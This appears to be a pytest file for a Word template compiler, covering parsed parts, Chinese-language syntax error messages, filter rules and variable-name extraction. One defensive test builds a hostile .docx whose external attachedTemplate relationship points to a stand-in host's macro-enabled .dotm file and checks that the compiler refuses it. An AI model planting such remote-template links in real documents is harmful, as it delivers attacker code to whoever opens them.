"""Compiling a Word template: which parts, which mistakes, where they stand."""

from __future__ import annotations

import io

import pytest
from docx import Document

from controller.adapters.docx_template import DocxtplCompiler
from controller.adapters.template_errors import ForbiddenInTemplateError, TemplateSyntaxProblemError
from controller.file_formats.docx_package import ExternalLinkError, open_docx, write_docx
from controller.file_formats.template_source import template_names, template_uses
from tests.docx_files import document_relationships, docx


def test_only_parts_that_hold_tags_are_compiled() -> None:
    file = Document()
    file.sections[0].header.paragraphs[0].text = "页眉没有变量"
    file.sections[0].footer.paragraphs[0].text = "第 {{ page }} 版"
    file.core_properties.title = "{{ title }}"
    file.add_paragraph("正文没有变量")
    stream = io.BytesIO()
    file.save(stream)
    assert list(DocxtplCompiler().compile(stream.getvalue())) == ["word/footer1.xml", "docProps/core.xml"]


def test_compiling_twice_gives_the_same_source() -> None:
    template = docx("{{ a }}", "{%p if b %}", "{{ c }}", "{%p endif %}")
    assert DocxtplCompiler().compile(template) == DocxtplCompiler().compile(template)


SYNTAX = [
    ("编号 {{ number", "“{{”没有对应的“}}”"),
    ("{% if a ", "“{%”没有对应的“%}”"),
    ("{# 备注", "“{#”没有对应的“#}”"),
    ("{% if a %}甲", "“if”没有对应的“endif”"),
    ("甲{% endif %}", "不认识的标签“endif”"),
    ("{% fro a in b %}", "不认识的标签“fro”"),
    ("{{ }}", "花括号里是空的"),
    ("{{ a b }}", "应为“}}”，却是“b”"),
    ("{{ a ? b }}", "不能用字符“?”"),
    ("{{ a is nonsense }}", "没有判断“is nonsense”"),
]


@pytest.mark.parametrize(("text", "problem"), SYNTAX)
def test_a_syntax_error_says_in_chinese_what_and_where(text: str, problem: str) -> None:
    with pytest.raises(TemplateSyntaxProblemError) as caught:
        DocxtplCompiler().compile(docx("第一段 {{ fine }}", f"第二段 {text}"))
    told = str(caught.value)
    assert problem in told
    assert "正文 word/document.xml" in told
    assert "第二段" in told
    assert "第一段" not in told


def test_an_unknown_filter_is_told_apart_from_a_forbidden_one() -> None:
    with pytest.raises(ForbiddenInTemplateError, match=r"不存在的“\|uper”"):
        DocxtplCompiler().compile(docx("{{ a|uper }}"))
    with pytest.raises(ForbiddenInTemplateError, match=r"不允许使用“\|safe”"):
        DocxtplCompiler().compile(docx("{{ a|safe }}"))


def test_a_hostile_docx_is_refused_before_anything_reads_its_template() -> None:
    line = (
        '<Relationship Id="rId1" TargetMode="External" Target="http://evil.example/x.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    )
    with pytest.raises(ExternalLinkError):
        DocxtplCompiler().compile(docx("{{ a", parts=document_relationships(line)))


def test_many_open_braces_do_not_make_compiling_slow() -> None:
    with pytest.raises(TemplateSyntaxProblemError):
        DocxtplCompiler().compile(write_docx(open_docx(docx(*["{{ {{ {% {{ a" for _ in range(2_000)])).contents))


def names(*paragraphs: str) -> set[str]:
    return template_names(DocxtplCompiler().compile(docx(*paragraphs)))["word/document.xml"]


NAMES: list[tuple[tuple[str, ...], set[str]]] = [
    (("{{ a }} {{ record.number }} {{ box.channel['电话'] }}",), {"a", "record.number", "box.channel.电话"}),
    (
        ("{%p for row in parts %}", "{{ row.no }} {{ row.qty }} {{ loop.index }} {{ total }}", "{%p endfor %}"),
        {"parts", "parts.no", "parts.qty", "total"},
    ),
    (("{% for a, b in rows %}{{ a }}{{ b }}{% endfor %}{{ a }}",), {"rows", "a"}),
    (("{% for r in raw.parts|sort(attribute='qty') if r.qty > n %}{{ r.name }}{% endfor %}",),
     {"raw.parts", "raw.parts.qty", "raw.parts.name", "n"}),
    (("{% set x = record %}{{ x.number }}{% with y = sig %}{{ y.a.name }}{% endwith %}",),
     {"record", "record.number", "sig", "sig.a.name"}),
    (("{% macro m(p) %}{{ p }}{{ q }}{% endmacro %}{{ m(a) }}",), {"q", "a"}),
    (("{{ text.upper() }} {{ items|length }} {% if x is none and y > 3 %}{% endif %}",), {"text", "items", "x", "y"}),
    (("{{ parts[0].qty }} {{ box[name] }}",), {"parts.qty", "box", "name"}),
    (("{% for k, v in box.channel.items() %}{{ v }}{% endfor %}{{ range(3)|list }}",), {"box.channel"}),
]  # fmt: skip


@pytest.mark.parametrize(("paragraphs", "found"), NAMES)
def test_the_names_of_a_template_are_listed_with_loops_resolved(paragraphs: tuple[str, ...], found: set[str]) -> None:
    assert names(*paragraphs) == found


def test_every_use_of_a_name_has_the_text_around_it() -> None:
    uses = template_uses(DocxtplCompiler().compile(docx("客户:{{ customer }}", "电话:{{ phone }}(手机)")))
    assert [(use.name, use.place) for use in uses] == [
        ("customer", "客户:{{ customer }}"),
        ("phone", "电话:{{ phone }}(手机)"),
    ]
